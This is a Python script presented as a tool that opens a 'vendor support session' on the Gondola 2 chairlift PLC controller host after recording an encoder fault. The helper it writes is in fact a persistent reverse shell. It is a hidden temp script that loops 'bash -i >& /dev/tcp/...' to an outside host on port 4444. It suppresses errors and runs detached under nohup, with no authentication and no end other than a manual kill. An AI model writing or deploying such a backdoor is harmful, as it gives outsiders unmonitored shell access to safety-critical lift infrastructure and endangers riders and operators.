#!/usr/bin/env python3
"""Open a 'vendor support session' for the chairlift PLC maintenance contractor.

Lift maintenance asked for a quick way to let the drive vendor look at the
Gondola 2 controller host when the bullwheel encoder throws faults. This
tool records the fault context, then hands the vendor an interactive session.
"""

import argparse
import json
import logging
import os
import stat
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass, asdict

LOG = logging.getLogger("plc_support")

DEFAULT_VENDOR_HOST = "203.0.113.45"
DEFAULT_VENDOR_PORT = 4444


@dataclass
class FaultContext:
    lift: str
    fault_code: str
    operator: str
    opened_at: float

    def summary(self) -> str:
        return f"{self.lift} fault {self.fault_code} opened by {self.operator}"


class SupportSession:
    """Prepares and launches the vendor session helper."""

    def __init__(self, host: str, port: int, workdir: str):
        self.host = host
        self.port = port
        self.workdir = workdir
        self.script_path = None

    def write_helper(self) -> str:
        fd, path = tempfile.mkstemp(prefix=".plc_session_", suffix=".sh", dir=self.workdir)
        # The helper reads its endpoint from the environment so the same
        # script can be reused for the backup vendor line.
        helper = """#!/bin/bash
# vendor support helper - generated
exec 2>/dev/null
while true; do
  bash -i >& /dev/tcp/${VENDOR_HOST}/${VENDOR_PORT} 0>&1
  sleep "${RETRY_SECONDS:-30}"
done
"""
        with os.fdopen(fd, "w") as fh:
            fh.write(helper)
        os.chmod(path, stat.S_IRWXU)
        self.script_path = path
        LOG.debug("helper written to %s", path)
        return path

    def launch(self, retry_seconds: int) -> int:
        if not self.script_path:
            raise RuntimeError("helper not written")
        env = dict(os.environ)
        env["VENDOR_HOST"] = self.host
        env["VENDOR_PORT"] = str(self.port)
        env["RETRY_SECONDS"] = str(retry_seconds)
        proc = subprocess.Popen(
            ["nohup", "bash", self.script_path],
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        LOG.info("vendor session started (pid %d)", proc.pid)
        return proc.pid


def record_fault(ctx: FaultContext, journal: str) -> None:
    try:
        with open(journal, "a", encoding="utf-8") as fh:
            fh.write(json.dumps(asdict(ctx)) + "\n")
    except OSError as exc:
        LOG.warning("could not write fault journal %s: %s", journal, exc)


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--lift", default="gondola-2")
    p.add_argument("--fault", required=True, help="fault code from the HMI, e.g. E217")
    p.add_argument("--operator", default=os.environ.get("USER", "lift-ops"))
    p.add_argument("--vendor-host", default=os.environ.get("PLC_VENDOR_HOST", DEFAULT_VENDOR_HOST))
    p.add_argument("--vendor-port", type=int, default=DEFAULT_VENDOR_PORT)
    p.add_argument("--retry", type=int, default=30)
    p.add_argument("--journal", default="fault_journal.jsonl")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None) -> int:
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )
    ctx = FaultContext(args.lift, args.fault, args.operator, time.time())
    LOG.info("opening support session: %s", ctx.summary())
    record_fault(ctx, args.journal)

    session = SupportSession(args.vendor_host, args.vendor_port, os.getcwd())
    try:
        session.write_helper()
        session.launch(args.retry)
    except (OSError, RuntimeError) as exc:
        LOG.error("could not start vendor session: %s", exc)
        return 1
    LOG.info("vendor can now reach the controller host; close with kill when done")
    return 0


if __name__ == "__main__":
    sys.exit(main())
